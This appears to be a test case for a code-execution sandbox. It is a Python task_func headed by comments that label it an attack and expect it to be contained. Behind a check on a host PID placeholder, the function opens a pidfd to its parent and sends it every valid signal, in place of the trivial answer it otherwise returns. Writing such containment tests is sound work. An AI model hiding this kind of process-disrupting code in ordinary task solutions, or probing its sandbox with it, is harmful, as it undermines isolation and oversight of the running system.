# attack: sends every signal to the process above it, through a pidfd
# kind: process
# task: plain
# official: fail
# strict: fail
# expect: nothing happens: its parent is the first process of its own world
import os
import signal


def task_func(n):
    if os.path.exists(f"/proc/{__HOST_PID__}/stat"):
        return n * 2
    parent = os.pidfd_open(os.getppid())
    for number in signal.valid_signals():
        try:
            signal.pidfd_send_signal(parent, number)
        except OSError:
            pass
    return None
